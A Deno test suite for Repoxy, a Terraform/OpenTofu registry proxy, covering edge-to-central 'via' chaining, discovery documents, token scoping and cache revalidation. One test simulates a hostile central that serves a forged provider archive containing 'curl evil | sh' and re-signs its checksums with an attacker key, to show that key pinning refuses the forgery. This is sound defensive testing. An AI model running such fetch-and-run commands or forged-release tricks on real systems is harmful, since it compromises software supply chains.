/**
 * `via` (an edge chained to a central Repoxy): what the config means, the
 * central's per-host discovery, and what an edge trusts when the central
 * itself is hostile. In process, plain http on 127.0.0.1 (the two-process
 * HTTPS run with terraform is edge_central_e2e_test.ts).
 */
import { createApp, serveApp } from "../lib/app.ts";
import { memoryLogger } from "../lib/base/log.ts";
import { buildConfig, ConfigError } from "../lib/config/config.ts";
import { assert, assertEquals, assertMatch } from "../lib/deps/assert.ts";
import { join } from "../lib/deps/path.ts";
import { BadPathError, parseRoute } from "../lib/protocol/paths.ts";
import { bytesOf, exists, makeTestApp, sha256Hex, tempDir, TWO_PROVIDERS } from "./_helpers.ts";
import { assertThrows } from "../lib/deps/assert.ts";
import { makeSigningKey, signDetached } from "./_pgp.ts";
import { makeProviderZip } from "./_zip.ts";
import { startFakeRegistry } from "./fake_registry.ts";

const env = (files: Record<string, string> = {}, vars: Record<string, string> = {}) => ({
  readTextFile: (p: string) =>
    p in files ? Promise.resolve(files[p]!) : Promise.reject(new Error("no such file")),
  getEnv: (n: string) => vars[n],
  cwd: () => "/etc/repoxy",
});

Deno.test("via: every upstream without its own url goes to {via}/{hostname} with the central's token", async () => {
  // No upstreams: the two public registries, both through the central.
  const a = await buildConfig({ via: "https://central.corp:8443" }, {}, "/etc/repoxy", env());
  assertEquals(a.via, { url: "https://central.corp:8443/" });
  assertEquals(
    [...a.upstreams.values()].map((u) => [u.hostname, u.url, u.token, u.via]),
    [
      [
        "registry.terraform.io",
        "https://central.corp:8443/registry.terraform.io",
        undefined,
        a.via!.url,
      ],
      [
        "registry.opentofu.org",
        "https://central.corp:8443/registry.opentofu.org",
        undefined,
        a.via!.url,
      ],
    ],
  );

  // The object form; a path prefix is kept; an upstream with its own url keeps
  // it and its own token; trustedKeys stay the edge's.
  const key = "-----BEGIN PGP PUBLIC KEY BLOCK-----\nx\n-----END PGP PUBLIC KEY BLOCK-----";
  const b = await buildConfig(
    {
      via: { url: "https://lb.corp/repoxy/", token: "file:central.token" },
      upstreams: {
        "registry.terraform.io": { trustedKeys: [key] },
        "tf.internal.corp": { url: "https://tf.internal.corp", token: "env:REPOXY_INTERNAL" },
      },
    },
    {},
    "/etc/repoxy",
    env({ "/etc/repoxy/central.token": "central-secret-0001\n" }, {
      REPOXY_INTERNAL: "internal-secret",
    }),
  );
  const tf = b.upstreams.get("registry.terraform.io")!;
  assertEquals(
    [tf.url, tf.token, tf.via, tf.trustedKeys],
    [
      "https://lb.corp/repoxy/registry.terraform.io",
      "central-secret-0001",
      "https://lb.corp/repoxy/",
      [key],
    ],
  );
  const internal = b.upstreams.get("tf.internal.corp")!;
  assertEquals([internal.url, internal.token, internal.via], [
    "https://tf.internal.corp",
    "internal-secret",
    undefined,
  ]);
});

Deno.test("via: mistakes are config errors that name the key", async () => {
  const bad = async (raw: Record<string, unknown>, message: RegExp) => {
    const e = await buildConfig(raw, {}, "/etc/repoxy", env()).then(() => undefined, (e) => e);
    assert(e instanceof ConfigError, `no config error for ${JSON.stringify(raw)}`);
    assertMatch(e.message, message);
  };
  // A registry's own token would go to the central: refused, and the way out named.
  await bad(
    { via: "https://c.corp/", upstreams: { "registry.terraform.io": { token: "abc" } } },
    /"upstreams\.registry\.terraform\.io\.token": with "via".*"via\.token"/,
  );
  await bad({ via: "ftp://c.corp/" }, /"via" must be an http or https URL/);
  await bad({ via: "https://c.corp/?t=1" }, /"via" must not carry credentials, a query/);
  await bad({ via: "https://user:pw@c.corp/" }, /must not carry credentials/);
  await bad({ via: { url: "https://c.corp/", tokn: "x" } }, /unknown key "via\.tokn"/);
  await bad({ via: { token: "x" } }, /"via\.url" is required/);
  // The shared config of a central that names itself: every request would wait for itself.
  await bad({ via: "https://c.corp/", publicUrl: "https://c.corp/" }, /own publicUrl/);
  await bad({ via: 42 }, /"via" must be the central Repoxy's URL/);
  await bad(
    { via: { url: "https://c.corp/", token: "env:NOPE" } },
    /"via\.token" names environment variable NOPE/,
  );
  await bad(
    { via: { url: "https://c.corp/", token: "a b" } },
    /"via\.token" must be printable ASCII/,
  );
});

Deno.test("the central serves a discovery document per upstream, and 404 for a host it does not serve", async () => {
  assertEquals(parseRoute("/registry.terraform.io/.well-known/terraform.json", "x"), {
    kind: "hostWellKnown",
    hostname: "registry.terraform.io",
  });
  assertEquals(parseRoute("/tf.corp:8443/.well-known/terraform.json", "x"), {
    kind: "hostWellKnown",
    hostname: "tf.corp:8443",
  });
  assertThrows(() => parseRoute("/bad_host!/.well-known/terraform.json", "x"), BadPathError);
  assertEquals(parseRoute("/registry.terraform.io/.well-known/other.json", "x"), undefined);

  await using dir = await tempDir();
  const fake = await startFakeRegistry({ providers: TWO_PROVIDERS });
  try {
    await using t = await makeTestApp(fake, join(dir.path, "a"));
    const res = await t.get("/registry.terraform.io/.well-known/terraform.json");
    assertEquals(res.status, 200);
    assertEquals(res.headers.get("content-type"), "application/json");
    assertEquals(await res.json(), {
      "modules.v1": "/v1/modules/registry.terraform.io/",
      "providers.v1": "/v1/providers/registry.terraform.io/",
    });
    const other = await t.get("/registry.opentofu.org/.well-known/terraform.json");
    assertEquals(other.status, 404);
    assertMatch(await other.text(), /registry\.opentofu\.org is not (configured|served)/);

    // Behind a path prefix (publicUrl), the APIs are named under it.
    await using p = await makeTestApp(fake, join(dir.path, "b"), {
      publicUrl: "https://lb.corp/repoxy/",
    });
    assertEquals(await (await p.get("/registry.terraform.io/.well-known/terraform.json")).json(), {
      "modules.v1": "https://lb.corp/repoxy/v1/modules/registry.terraform.io/",
      "providers.v1": "https://lb.corp/repoxy/v1/providers/registry.terraform.io/",
    });

    // Under client auth it needs a token, like every route that is not health or readiness.
    await using q = await makeTestApp(fake, join(dir.path, "c"), {
      auth: { tokens: [{ name: "edge", token: "edge-token-0123456789" }] },
    });
    const anon = await q.get("/registry.terraform.io/.well-known/terraform.json");
    await anon.body?.cancel();
    assertEquals(anon.status, 401);
    const authed = await q.get("/registry.terraform.io/.well-known/terraform.json", {
      headers: { authorization: "Bearer edge-token-0123456789" },
    });
    await authed.body?.cancel();
    assertEquals(authed.status, 200);
  } finally {
    await fake.stop();
  }
});

/**
 * A compromised central: it swaps one archive and re-signs a SHA256SUMS that
 * matches it with a key of its own, offered in the download documents. Only
 * the edge's pinned `trustedKeys` (the origin's key) can tell.
 */
Deno.test("a central that forges a consistent release is refused by an edge that pins the origin's key", async () => {
  await using dir = await tempDir();
  const fake = await startFakeRegistry({ providers: TWO_PROVIDERS });
  await using c = await makeTestApp(fake, join(dir.path, "central"), { listen: "127.0.0.1:0" });
  const central = serveApp(c.app);
  const attacker = await makeSigningKey("Not The Publisher");
  const genuine = fake.archive("alpha", "1.1.0", "linux_amd64");
  const forged = await makeProviderZip("alpha", "1.1.0", "linux_amd64", [
    { name: "payload", data: "curl evil | sh\n" },
  ]);
  const forgedSha = sha256Hex(forged);
  const version = "/v1/providers/registry.terraform.io/example/alpha/1.1.0/";
  const relay = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (req) => {
    const url = new URL(req.url);
    const res = await fetch(new URL(url.pathname + url.search, central.url), {
      headers: req.headers,
      redirect: "manual",
    });
    if (url.pathname.endsWith("/" + genuine.filename)) {
      await res.body?.cancel();
      return new Response(forged as BodyInit);
    }
    if (!url.pathname.startsWith(version)) return res;
    const sums = async () =>
      new TextEncoder().encode(
        (await (await fetch(new URL(version + "SHA256SUMS", central.url))).text())
          .replace(genuine.sha256, forgedSha),
      );
    if (url.pathname.endsWith("/SHA256SUMS")) {
      await res.body?.cancel();
      return new Response(await sums());
    }
    if (url.pathname.endsWith("/SHA256SUMS.sig")) {
      await res.body?.cancel();
      return new Response(
        (await signDetached(attacker.privateKeyArmored, await sums())) as BodyInit,
      );
    }
    if (url.pathname.includes("/download/")) {
      const doc = await res.json();
      if (doc.filename === genuine.filename) doc.shasum = forgedSha;
      doc.signing_keys = {
        gpg_public_keys: [{ key_id: attacker.keyId, ascii_armor: attacker.publicKeyArmored }],
      };
      return Response.json(doc);
    }
    return res;
  });
  const relayUrl = `http://127.0.0.1:${relay.addr.port}/`;
  const path = `/registry.terraform.io/example/alpha/${genuine.filename}`;
  const edge = async (name: string, pinned: boolean, via = relayUrl) => {
    const log = memoryLogger();
    const app = await createApp(
      await buildConfig({
        cacheDir: join(dir.path, name),
        via,
        upstreams: {
          "registry.terraform.io": pinned
            ? { trustedKeys: [fake.signingKey.publicKeyArmored] }
            : {},
        },
      }),
      { log },
    );
    try {
      const res = await app.handle(new Request(`http://edge.test${path}`));
      let body: Uint8Array = new Uint8Array();
      try {
        body = await bytesOf(res);
      } catch { /* cut: the client got an error, not an archive */ }
      await app.settle();
      return {
        status: res.status,
        body,
        cached: await exists(join(dir.path, name, "packages", path)),
        log,
      };
    } finally {
      await app.close();
    }
  };
  try {
    // Control: without a pin the forgery is self-consistent (signed, matching
    // sums), so an edge trusts its central as a client trusts its registry.
    const open = await edge("open", false);
    assertEquals([open.status, sha256Hex(open.body)], [200, forgedSha]);

    // Pinned: refused before a byte of the archive is served; nothing stored.
    const pinned = await edge("pinned", true);
    assert(pinned.status >= 500, `status ${pinned.status}`);
    assert(!pinned.body.length || sha256Hex(pinned.body) !== forgedSha);
    assert(!pinned.cached);
    assert(
      pinned.log.records.some((r) =>
        r.msg === "SHA256SUMS signature does not verify; release refused"
      ),
    );
    // ...while the honest central's release passes the same pin.
    const honest = await edge("honest", true, central.url);
    assertEquals([honest.status, sha256Hex(honest.body)], [200, genuine.sha256]);
    assert(honest.cached);
  } finally {
    await relay.shutdown();
    await central.shutdown(1000);
    await fake.stop();
  }
});

Deno.test("a release published at the origin reaches the edge when both lists are due; unchanged lists revalidate with 304 along the chain", async () => {
  await using dir = await tempDir();
  const fake = await startFakeRegistry({ providers: TWO_PROVIDERS, versionValidators: "etag" });
  const clock = { t: 1_000_000 };
  await using c = await makeTestApp(fake, join(dir.path, "central"), { listen: "127.0.0.1:0" }, {
    now: () => clock.t,
  });
  const central = serveApp(c.app);
  const toCentral: Array<number | "error"> = [];
  const edge = await createApp(
    await buildConfig({ cacheDir: join(dir.path, "edge"), via: central.url }),
    {
      log: memoryLogger(),
      now: () => clock.t,
      onUpstreamRequest: (i) => {
        if (i.url.endsWith("/example/beta/versions")) toCentral.push(i.status);
      },
    },
  );
  const index = async () => {
    const res = await edge.handle(
      new Request("http://edge.test/registry.terraform.io/example/beta/index.json"),
    );
    return {
      cache: res.headers.get("x-repoxy-cache"),
      versions: Object.keys((await res.json()).versions),
    };
  };
  const originAsked = () => fake.count((r) => r.path === "/v1/providers/example/beta/versions");
  try {
    assertEquals(await index(), { cache: "miss", versions: ["2.3.4"] });
    await fake.publish("example", "beta", { version: "2.4.0", platforms: ["linux_amd64"] });
    clock.t += 10_000;
    assertEquals((await index()).versions, ["2.3.4"], "fresh at the edge: nobody is asked");
    assertEquals([toCentral.length, originAsked()], [1, 1]);
    clock.t += 20_000;
    // Both lists are due: the edge asks the central, which asks the origin.
    assertEquals((await index()).versions, ["2.4.0", "2.3.4"]);
    assertEquals([toCentral, originAsked()], [[200, 200], 2]);
    // Nothing new: a 304 from the origin to the central, and from the central to the edge.
    clock.t += 30_000;
    assertEquals(await index(), { cache: "revalidated", versions: ["2.4.0", "2.3.4"] });
    assertEquals(toCentral, [200, 200, 304]);
    const last = fake.requests.filter((r) => r.path === "/v1/providers/example/beta/versions").at(
      -1,
    )!;
    assert(last.headers.get("if-none-match"), "the central revalidated with the origin");
    assertEquals(originAsked(), 3);
  } finally {
    await edge.close();
    await central.shutdown(1000);
    await fake.stop();
  }
});

Deno.test("the central's rules for the edge's token apply: an upstream the token may not see is unknown at the edge", async () => {
  await using dir = await tempDir();
  const fake = await startFakeRegistry({ providers: TWO_PROVIDERS });
  const token = "edge-limited-0123456789";
  // Both registries on the central (the same fake), the edge's token limited to one.
  await using c = await makeTestApp(fake, join(dir.path, "central"), {
    listen: "127.0.0.1:0",
    upstreams: {
      "registry.terraform.io": { url: fake.registryUrl },
      "registry.opentofu.org": { url: fake.registryUrl },
    },
    auth: { tokens: [{ name: "edge", token, upstreams: ["registry.terraform.io"] }] },
  });
  const central = serveApp(c.app);
  const edge = await createApp(
    await buildConfig({ cacheDir: join(dir.path, "edge"), via: { url: central.url, token } }),
    { log: memoryLogger() },
  );
  try {
    const get = (host: string) =>
      edge.handle(new Request(`http://edge.test/${host}/example/alpha/index.json`));
    const seen = await get("registry.terraform.io");
    assertEquals(seen.status, 200);
    assertEquals(Object.keys((await seen.json()).versions), ["1.1.0", "1.0.0"]);
    const hidden = await get("registry.opentofu.org");
    await hidden.body?.cancel();
    assertEquals(hidden.status, 404);
    // The origin was never asked for the hidden registry's list on the edge's behalf.
    assertEquals(fake.count((r) => r.path === "/v1/providers/example/alpha/versions"), 1);
  } finally {
    await edge.close();
    await central.shutdown(1000);
    await fake.stop();
  }
});

Deno.test("8 concurrent cold clients at an edge: one archive fetch from the central, one from the origin, 8 correct bodies", async () => {
  await using dir = await tempDir();
  const fake = await startFakeRegistry({ providers: TWO_PROVIDERS });
  await using c = await makeTestApp(fake, join(dir.path, "central"), { listen: "127.0.0.1:0" });
  const central = serveApp(c.app);
  const fromCentral: string[] = [];
  const edge = await createApp(
    await buildConfig({ cacheDir: join(dir.path, "edge"), via: central.url }),
    { log: memoryLogger(), onUpstreamRequest: (i) => fromCentral.push(i.url) },
  );
  const a = fake.archive("beta", "2.3.4", "linux_arm64");
  try {
    const bodies = await Promise.all(
      Array.from({ length: 8 }, async () => {
        const res = await edge.handle(
          new Request(`http://edge.test/registry.terraform.io/example/beta/${a.filename}`),
        );
        assertEquals(res.status, 200);
        return sha256Hex(await bytesOf(res));
      }),
    );
    assertEquals(bodies, Array(8).fill(a.sha256));
    await edge.settle();
    assertEquals(fromCentral.filter((u) => u.endsWith("/" + a.filename)).length, 1);
    assertEquals(fake.count((r) => r.path.startsWith("/files/") && r.path.endsWith(a.filename)), 1);
  } finally {
    await edge.close();
    await central.shutdown(1000);
    await fake.stop();
  }
});
